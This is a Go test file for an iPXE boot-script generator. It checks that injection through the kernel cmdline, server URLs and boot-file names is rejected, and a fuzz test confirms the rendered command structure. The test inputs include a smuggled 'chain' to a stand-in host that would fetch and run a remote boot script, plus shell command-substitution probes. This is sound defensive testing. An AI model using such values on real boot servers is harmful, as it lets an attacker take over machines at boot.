package ipxe

import (
	"slices"
	"strings"
	"testing"

	"github.com/disklesstrap/disklesstrap/manifest"
)

// commands parses an iPXE script the way iPXE runs it (core/script.c,
// core/exec.c): one line at a time; a line ending in a backslash
// continues on the next; a line starting with ':' is a label; "${" starts
// a setting expansion; the rest is split at whitespace into tokens, and a
// command ends at a token "||", "&&" or ";", while a token starting with
// '#' ends the line. Each command is returned as its name followed by the
// terminator after it ("kernel ||", "goto", ":failed"); expansions counts
// the "${" in command lines.
func commands(script string) (cmds []string, expansions int) {
	lines := strings.Split(script, "\n")
	for i := 0; i < len(lines); i++ {
		line := lines[i]
		for strings.HasSuffix(line, "\\") && i+1 < len(lines) {
			i++
			line = line[:len(line)-1] + lines[i]
		}
		if strings.HasPrefix(strings.TrimLeft(line, " \t"), ":") {
			cmds = append(cmds, strings.Fields(line)[0])
			continue
		}
		expansions += strings.Count(line, "${")
		var cur string
		for _, tok := range strings.Fields(line) {
			if strings.HasPrefix(tok, "#") {
				break
			}
			switch tok {
			case "||", "&&", ";":
				cmds = append(cmds, cur+" "+tok)
				cur = ""
				continue
			}
			if cur == "" {
				cur = tok
			}
		}
		if cur != "" {
			cmds = append(cmds, cur)
		}
	}
	return cmds, expansions
}

func TestCommandsParser(t *testing.T) {
	got, exp := commands("#!ipxe\n:a\nkernel x ${y} ; chain z || goto a # c ; reboot\nset a b \\\n  ; reboot\n")
	want := []string{":a", "kernel ;", "chain ||", "goto", "set ;", "reboot"}
	if !slices.Equal(got, want) || exp != 1 {
		t.Errorf("commands = %q, %d expansions; want %q, 1", got, exp, want)
	}
}

// TestCmdlineInjection: the cmdline of issue #14 and other shell and iPXE
// metacharacters are refused (the first case rendered a script that chains
// an arbitrary URL before the allow-list).
func TestCmdlineInjection(t *testing.T) {
	for _, c := range []string{
		"quiet ; chain http://203.0.113.9/x.ipxe ; #",
		"quiet #",
		"quiet # comment",
		"#quiet",
		"a;b",
		"a && b", "a & b", "a | b", "a || b",
		"x=${net0/ip}", "x=$y", "x=`id`", "x=$(id)",
		`x=\`, "x=a\\", "x='a'", `x="a`, "x=<a>", "x=a>b", "x={a}", "x=[a]", "x=?", "x=^", "x=%",
		"x=\ta", "x=\u00a0", "x=é", "x=\x1b[31m", "x=\x7f",
		strings.Repeat("a", MaxCmdline+1),
	} {
		t.Run(c, func(t *testing.T) {
			p := trapParams()
			p.Cmdline = c
			s, err := Script(p)
			if err == nil {
				t.Fatalf("Script(cmdline %q) =\n%s\nwant an error", c, s)
			}
			if !strings.Contains(err.Error(), "field cmdline") {
				t.Errorf("Script(cmdline %q) error %q does not name field cmdline", c, err)
			}
			if CheckCmdline(c) == nil {
				t.Errorf("CheckCmdline(%q) = nil", c)
			}
		})
	}
	for _, c := range []string{
		"console=ttyS0,115200n8 console=tty0", "root=/dev/sda1 ro quiet", "netconsole=6665@198.18.0.5/eth0,6666@198.18.0.1/",
		"acpi_osi=!Windows", `acpi_osi="!Windows 2012"`, "rd.luks.uuid=luks-0a1b nomodeset video=1024x768-24@60", "a+b=c~d*",
	} {
		if err := CheckCmdline(c); err != nil {
			t.Errorf("CheckCmdline(%q) = %v, want nil", c, err)
		}
	}
}

// TestURLAndFileInjection: the other values that reach the script.
func TestURLAndFileInjection(t *testing.T) {
	for _, tt := range []struct {
		name string
		edit func(p *Params)
	}{
		{"semicolon in server", func(p *Params) { p.Server = "http://198.18.0.1;chain" }},
		{"hash in kernel", func(p *Params) { p.Kernel = server + "/boot/vmlinuz#x" }},
		{"dollar in initrd", func(p *Params) { p.Initrd = server + "/boot/${x}" }},
		{"ampersand in server", func(p *Params) { p.Server = "http://a&&b" }},
		{"quote in server", func(p *Params) { p.Server = "http://a'b" }},
	} {
		p := trapParams()
		tt.edit(&p)
		if s, err := Script(p); err == nil {
			t.Errorf("%s: Script = %q, want an error", tt.name, s)
		}
	}
	for _, f := range []string{"a;b", "a#b", "a b", "/abs", "../x", "a//b", "a/./b", "x${y}", "a&b", "a|b", "a'b", `a\b`, "a?b", ""} {
		if CheckBootFile(f) == nil {
			t.Errorf("CheckBootFile(%q) = nil, want an error", f)
		}
	}
	for _, f := range []string{"vmlinuz-6.1.0-56-amd64", "trap/initrd.cpio.gz", "k+1,v=2@x~"} {
		if err := CheckBootFile(f); err != nil {
			t.Errorf("CheckBootFile(%q) = %v", f, err)
		}
	}
}

// FuzzScript: whatever the values, a rendered script has exactly
// the commands (names, terminators, labels, setting expansions) of the
// same template branch rendered with benign values.
func FuzzScript(f *testing.F) {
	f.Add("cn001", "trap", server, server+"/k", server+"/i", "quiet ; chain http://203.0.113.9/x.ipxe ; #", "52:54:00:aa:bb:01", "efi")
	f.Add("", "", server, server+"/k", server+"/i", `acpi_osi="!Windows 2012"`, "", "pcbios")
	f.Add("n", "local", server, "", "", "", "", "")
	f.Add("n", "ramroot", "http://h;x", server+"/k#", server+"/i", "a \\", "", "pcbios")
	f.Fuzz(func(t *testing.T, node, mode, srv, kernel, initrd, cmdline, mac, platform string) {
		p := Params{node, manifest.Mode(mode), srv, kernel, initrd, cmdline, mac, platform}
		s, err := Script(p)
		if err != nil {
			return
		}
		ref := trapParams()
		ref.Node, ref.Mode, ref.Platform = "", p.Mode, p.Platform
		if p.Node != "" {
			ref.Node = "cn001"
		}
		if p.MAC == "" {
			ref.MAC = ""
		}
		want, err := Script(ref)
		if err != nil {
			t.Fatalf("reference Script(%+v): %v", ref, err)
		}
		gc, ge := commands(s)
		wc, we := commands(want)
		if !slices.Equal(gc, wc) || ge != we {
			t.Fatalf("Script(%+v) commands %q (%d expansions), the template's %q (%d):\n%s", p, gc, ge, wc, we, s)
		}
	})
}
